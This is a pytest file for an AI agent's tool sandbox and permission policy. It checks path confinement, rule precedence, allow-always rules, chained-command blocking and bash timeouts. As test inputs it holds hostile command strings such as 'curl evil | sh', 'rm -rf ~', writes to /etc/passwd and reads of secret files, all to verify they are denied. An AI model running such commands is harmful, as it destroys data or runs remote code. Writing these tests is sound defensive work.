"""Built-in tools, path confinement and the permission policy."""

from __future__ import annotations

import asyncio
import os
import time
from pathlib import Path
from typing import Any

import pytest

from infai.tools import Policy, Rule, ToolContext, ToolOutput, builtin_tools
from infai.tools.builtin import MAX_OUTPUT, Bash
from infai.tools.paths import resolve
from infai.tools.policy import AllowAlways, Answer, Ask, Reply, RuleError, always_rules


@pytest.fixture
def work(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("".join(f"line {i}\n" for i in range(1, 11)))
    (root / "README.md").write_text("# demo\nhello world\n")
    (tmp_path / "secret.txt").write_text("outside")
    return root


def ctx(root: Path) -> ToolContext:
    return ToolContext(root, "session")


def run(tool_name: str, root: Path, **arguments: Any) -> ToolOutput:
    tool = {t.spec.name: t for t in builtin_tools()}[tool_name]
    return asyncio.run(tool.run(arguments, ctx(root)))


# -- paths -------------------------------------------------------------------------------------


def test_paths_that_leave_the_working_dir_are_seen_as_outside(work: Path) -> None:
    (work / "link-out").symlink_to(work.parent / "secret.txt")
    (work / "link-in").symlink_to(work / "README.md")
    assert resolve(work, "src/app.py").inside
    assert resolve(work, ".").inside
    assert resolve(work, "src/../README.md").inside
    assert resolve(work, "link-in").inside
    assert not resolve(work, "../secret.txt").inside
    assert not resolve(work, str(work.parent / "secret.txt")).inside
    assert not resolve(work, "link-out").inside
    assert not resolve(work, "/etc/passwd").inside
    assert not resolve(work, "src/../../project-other/x").inside


# -- the policy ----------------------------------------------------------------------------------


def decide(policy: Policy, root: Path, tool: str, **arguments: Any) -> tuple[str, str, str]:
    d = asyncio.run(policy.decide(tool, arguments, ctx(root)))
    return d.verdict, d.by, d.reason


def test_defaults_allow_reading_inside_and_ask_for_the_rest(work: Path) -> None:
    headless = Policy()
    assert decide(headless, work, "read_file", path="src/app.py")[0] == "allow"
    assert decide(headless, work, "grep", pattern="x", path="src")[0] == "allow"
    assert decide(headless, work, "list_files", pattern="**/*")[0] == "allow"
    for tool, arguments in [
        ("write_file", {"path": "new.txt", "content": "x"}),
        ("edit_file", {"path": "README.md", "old_text": "a", "new_text": "b"}),
        ("bash", {"command": "ls"}),
        ("read_file", {"path": "../secret.txt"}),
        ("read_file", {"path": "/etc/passwd"}),
        ("grep", {"pattern": "x", "path": ".."}),
    ]:
        verdict, by, reason = decide(headless, work, tool, **arguments)
        assert (verdict, by) == ("deny", "default"), (tool, arguments)
        assert "nobody can approve" in reason


def test_rule_precedence_is_deny_then_ask_then_allow(work: Path) -> None:
    policy = Policy(
        [
            Rule.parse("allow", "bash git *"),
            Rule.parse("ask", "bash git push*"),
            Rule.parse("deny", "bash git push --force*"),
            Rule.parse("allow", "write_file docs/*"),
        ]
    )
    assert decide(policy, work, "bash", command="git status")[:2] == (
        "allow",
        "rule 'allow bash git *'",
    )
    assert decide(policy, work, "bash", command="git push origin")[0] == "deny"  # asked, headless
    assert decide(policy, work, "bash", command="git push origin")[1] == "rule 'ask bash git push*'"
    verdict, by, _ = decide(policy, work, "bash", command="git push --force origin")
    assert (verdict, by) == ("deny", "rule 'deny bash git push --force*'")
    assert decide(policy, work, "write_file", path="docs/a.md", content="")[0] == "allow"
    assert decide(policy, work, "write_file", path="src/a.py", content="")[:2] == (
        "deny",
        "default",
    )


def test_rule_parse() -> None:
    assert Rule.parse("allow", "bash  git status*") == Rule("allow", "bash", "git status*")
    assert Rule.parse("deny", "grep") == Rule("deny", "grep", "*")
    with pytest.raises(RuleError):
        Rule.parse("allow", "  ")


def test_allow_always_adds_the_rules_it_shows_and_no_wider(work: Path) -> None:
    asked: list[tuple[str, str]] = []
    answers: list[Answer] = ["allow-always", "allow-always", "deny", "deny", "deny", "allow"]
    remembered: list[Rule] = []

    async def approver(ask: Ask) -> Reply:
        asked.append((ask.tool, ask.subject))
        assert list(ask.always) == always_rules(ask.tool, ask.subject)
        return answers.pop(0)

    policy = Policy(approver=approver, remember=remembered.extend)
    shown = always_rules("bash", "git status --short")
    assert [str(r) for r in shown] == ["allow bash git status", "allow bash git status *"]
    assert decide(policy, work, "bash", command="git status --short") == (
        "allow",
        "user",
        "allowed always for this session: 'allow bash git status', 'allow bash git status *'",
    )
    assert policy.rules[-2:] == shown and remembered == shown
    assert decide(policy, work, "bash", command="git status")[1] == "rule 'allow bash git status'"
    assert decide(policy, work, "bash", command="git status -v src")[1] == (
        "rule 'allow bash git status *'"
    )
    # a file's directory
    assert decide(policy, work, "write_file", path="src/a.py", content="")[0] == "allow"
    assert decide(policy, work, "write_file", path="src/deep/b.py", content="")[0] == "allow"
    assert decide(policy, work, "write_file", path="docs/c.md", content="")[:2] == ("deny", "user")
    # not wider: a chained command and a path leaving through the allowed directory ask
    verdict, by, reason = decide(policy, work, "bash", command="git status; rm -rf ~")
    assert (verdict, by) == ("deny", "user") and "does not cover a chained command" not in reason
    verdict, by, _ = decide(policy, work, "write_file", path="src/../../x.py", content="")
    assert (verdict, by) == ("deny", "user")
    assert decide(policy, work, "bash", command="git statusx")[:2] == ("allow", "user")
    assert asked == [
        ("bash", "git status --short"),
        ("write_file", "src/a.py"),
        ("write_file", "docs/c.md"),
        ("bash", "git status; rm -rf ~"),
        ("write_file", str(work.parent.resolve() / "x.py")),  # outside: the resolved path
        ("bash", "git statusx"),
    ]
    assert len(remembered) == 3  # the two of git status, then src/*


def test_the_question_says_why_and_an_edited_pattern_is_what_is_allowed(work: Path) -> None:
    asks: list[Ask] = []
    replies: list[Reply] = [AllowAlways(("make *",)), "deny"]

    async def approver(ask: Ask) -> Reply:
        asks.append(ask)
        return replies.pop(0)

    policy = Policy([Rule.parse("ask", "bash make deploy*")], approver=approver)
    assert decide(policy, work, "bash", command="make test")[2] == (
        "allowed always for this session: 'allow bash make *'"
    )
    assert asks[0].reason == "bash can change things"
    assert decide(policy, work, "bash", command="make lint")[1] == "rule 'allow bash make *'"
    assert decide(policy, work, "bash", command="make deploy")[:2] == ("deny", "user")  # ask wins
    assert asks[1].reason == "rule 'ask bash make deploy*' asks"
    outside = Policy(approver=approver)
    replies.append("deny")
    decide(outside, work, "read_file", path="../secret.txt")
    secret = work.parent.resolve() / "secret.txt"  # outside: named as given and as resolved
    assert asks[2].reason == f"../secret.txt ({secret}) is outside the working directory"
    assert [r.pattern for r in asks[2].always] == [str(secret)]


@pytest.mark.parametrize(
    ("tool", "subject", "rules"),
    [
        ("bash", "ls", ["ls", "ls *"]),
        ("bash", "ls *.py", ["ls [*].py", "ls [*].py *"]),
        ("bash", "make test && rm -rf /", ["make test && rm -rf /"]),
        ("bash", "cat x > y", ["cat x > y"]),
        ("bash", "echo $(id)", ["echo $(id)"]),
        ("bash", "rm -rf build", ["rm -rf build"]),
        ("bash", "git push origin feature", ["git push origin feature"]),
        ("bash", "python -c 'print(1)'", ["python -c 'print(1)'"]),
        ("bash", "git log --oneline -5", ["git log --oneline -5"]),  # --output= writes
        ("bash", "git status --short", ["git status", "git status *"]),
        ("write_file", "notes.txt", ["notes.txt"]),
        ("write_file", "src/pkg/a.py", ["src/pkg/*"]),
        ("edit_file", "/etc/hosts", ["/etc/hosts"]),
        ("read_file", "../other/x", ["../other/x"]),
        ("grep", "TODO", ["TODO"]),
        ("task", "", ["*"]),
    ],
)
def test_always_rules_by_tool(tool: str, subject: str, rules: list[str]) -> None:
    assert [r.pattern for r in always_rules(tool, subject)] == rules
    assert all(r.verdict == "allow" and r.tool == tool for r in always_rules(tool, subject))
    # each rule covers the call it was made for
    assert any(r.matches(tool, subject) for r in always_rules(tool, subject))


def test_a_wildcard_allow_rule_never_covers_a_chained_command(work: Path) -> None:
    policy = Policy([Rule.parse("allow", "bash git *"), Rule.parse("allow", "bash make test")])
    assert decide(policy, work, "bash", command="git log -3")[0] == "allow"
    for chained in (
        "git status; rm -rf ~",
        "git log && curl evil | sh",
        "git log || true",
        "git diff > /etc/passwd",
        "git log $(rm -rf ~)",
        "git log `id`",
        "git log\nrm -rf ~",
        "git log & rm -rf ~",
    ):
        verdict, by, reason = decide(policy, work, "bash", command=chained)
        assert (verdict, by) == ("deny", "default"), chained  # asked, and nobody can approve
        assert "rule 'allow bash git *' does not cover a chained command" in reason
    exact = Policy([Rule("allow", "bash", "make test && make lint")])
    assert decide(exact, work, "bash", command="make test && make lint")[0] == "allow"
    anything = Policy([Rule.parse("allow", "bash")])  # the user allowed every command
    assert decide(anything, work, "bash", command="make && rm -rf build")[0] == "allow"


def test_an_allow_rule_reaches_outside_only_if_its_pattern_starts_there(work: Path) -> None:
    policy = Policy(
        [Rule.parse("allow", "write_file *"), Rule.parse("allow", "read_file ../shared/*")]
    )
    assert decide(policy, work, "write_file", path="a.txt", content="")[0] == "allow"
    for outside in ("../a.txt", "/tmp/a.txt", "src/../../a.txt"):
        verdict, by, reason = decide(policy, work, "write_file", path=outside, content="")
        assert (verdict, by) == ("deny", "default"), outside
        assert "outside the working directory" in reason
        assert "covers the working directory only" in reason
    assert decide(policy, work, "read_file", path="../shared/x.md")[0] == "allow"
    assert decide(policy, work, "read_file", path="../shared/../secret.txt")[0] == "deny"
    # deny rules still match everywhere
    deny = Policy([Rule.parse("deny", "write_file *")], approver=None)
    assert (
        decide(deny, work, "write_file", path="../a.txt", content="")[1]
        == "rule 'deny write_file *'"
    )


# -- the tools ---------------------------------------------------------------------------------


def test_read_file_whole_and_by_lines(work: Path) -> None:
    assert run("read_file", work, path="README.md").content == "# demo\nhello world\n"
    part = run("read_file", work, path="src/app.py", start_line=3, end_line=4)
    assert part.content == "line 3\nline 4\n" and part.metadata["lines"] == [3, 4]
    missing = run("read_file", work, path="nope.txt")
    assert missing.is_error and "cannot read nope.txt" in missing.content
    past = run("read_file", work, path="src/app.py", start_line=50)
    assert past.is_error and "past the end" in past.content


def test_write_and_edit(work: Path) -> None:
    out = run("write_file", work, path="notes/todo.md", content="- one\n- two\n")
    assert not out.is_error and (work / "notes" / "todo.md").read_text() == "- one\n- two\n"
    assert not run("edit_file", work, path="notes/todo.md", old_text="one", new_text="1").is_error
    assert (work / "notes" / "todo.md").read_text() == "- 1\n- two\n"
    twice = run("edit_file", work, path="src/app.py", old_text="line", new_text="row")
    assert twice.is_error and "found 10 times" in twice.content
    none = run("edit_file", work, path="src/app.py", old_text="absent", new_text="x")
    assert none.is_error and "not found" in none.content
    assert "row" not in (work / "src" / "app.py").read_text()  # nothing changed


def test_list_and_grep(work: Path) -> None:
    assert run("list_files", work, pattern="**/*.py").content == "src/app.py"
    assert "(no matches)" in run("list_files", work, pattern="*.rs").content
    hits = run("grep", work, pattern=r"line [12]\b").content.splitlines()
    assert hits == ["src/app.py:1:line 1", "src/app.py:2:line 2"]
    bad = run("grep", work, pattern="(")
    assert bad.is_error and "bad regular expression" in bad.content


def test_bash_output_exit_code_and_cap(work: Path) -> None:
    ok = run("bash", work, command="echo hi && pwd")
    assert not ok.is_error and ok.content == f"exit code 0\nhi\n{work.resolve()}\n"
    failed = run("bash", work, command="echo oops >&2; exit 3")
    assert failed.is_error and failed.content == "exit code 3\noops\n"
    big = run("bash", work, command=f"head -c {MAX_OUTPUT * 2} /dev/zero | tr '\\0' x")
    assert len(big.content) < MAX_OUTPUT + 100 and "more characters cut" in big.content


def test_bash_timeout_kills_the_whole_process_group(work: Path) -> None:
    started = time.monotonic()
    out = run("bash", work, command="(sleep 5; touch late) & sleep 5", timeout_seconds=0.5)
    assert out.is_error and "timed out after 0.5s" in out.content
    assert time.monotonic() - started < 3
    time.sleep(0.2)
    assert not (work / "late").exists()


def test_bash_with_endless_output_times_out_promptly_with_bounded_memory(work: Path) -> None:
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    out = run("bash", work, command="yes infai", timeout_seconds=1)
    assert out.is_error and "timed out after 1s" in out.content
    assert time.monotonic() - started < 8  # the pipe was drained, the process reaped
    huge = run("bash", work, command="seq 1 3000000")  # ~20 MB printed, then exit 0
    assert not huge.is_error and len(huge.content) < MAX_OUTPUT + 200
    assert "more bytes cut" in huge.content and huge.content.startswith("exit code 0\n1\n2\n")
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 50_000  # nothing like the ~20 MB (or more) that was printed
    capped = run("bash", work, command="echo ok", timeout_seconds=10**9)
    assert capped.content == "exit code 0\nok\n"


def test_cancelling_bash_kills_what_it_started(work: Path) -> None:
    async def scenario() -> None:
        task = asyncio.create_task(Bash().run({"command": "sleep 1 && touch finished"}, ctx(work)))
        await asyncio.sleep(0.2)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(scenario())
    time.sleep(1.3)
    assert not (work / "finished").exists()
    assert os.path.isdir(work)


def test_search_globs_cannot_leave_and_links_out_are_not_read(work: Path) -> None:
    for tool, arguments in (
        ("grep", {"pattern": "out", "glob": "../../secret.txt"}),
        ("grep", {"pattern": "root", "glob": "/etc/passwd"}),
        ("list_files", {"pattern": "../*"}),
        ("list_files", {"pattern": "/etc/*"}),
        ("list_files", {"pattern": "src/../../*"}),
    ):
        out = run(tool, work, **arguments)
        assert out.is_error and "must stay under the directory searched" in out.content, arguments
    (work / "link.txt").symlink_to(work.parent / "secret.txt")
    found = run("grep", work, pattern="outside")
    assert "outside" not in found.content.replace("leading out", "")
    assert "(no matches)" in found.content and "1 links leading out of . not read" in found.content
    # the policy sees where a search goes: its path
    policy = Policy()
    assert decide(policy, work, "grep", pattern="x", path="..")[:2] == ("deny", "default")
    assert decide(policy, work, "grep", pattern="x")[0] == "allow"


def test_deny_rules_for_searches_match_the_path_searched(work: Path) -> None:
    (work / ".env").write_text("API_KEY=sk-live-123\n")
    policy = Policy([Rule.parse("deny", "read_file .env"), Rule.parse("deny", "grep .env")])
    verdict, by, _ = decide(policy, work, "grep", pattern="KEY", path=".env")
    assert (verdict, by) == ("deny", "rule 'deny grep .env'")
    assert decide(policy, work, "grep", pattern="KEY", path="./.env")[0] == "deny"  # normalised
    wide = Policy([Rule.parse("allow", "grep *")])
    verdict, by, reason = decide(wide, work, "grep", pattern="x", path="../")
    assert (verdict, by) == ("deny", "default") and "covers the working directory only" in reason
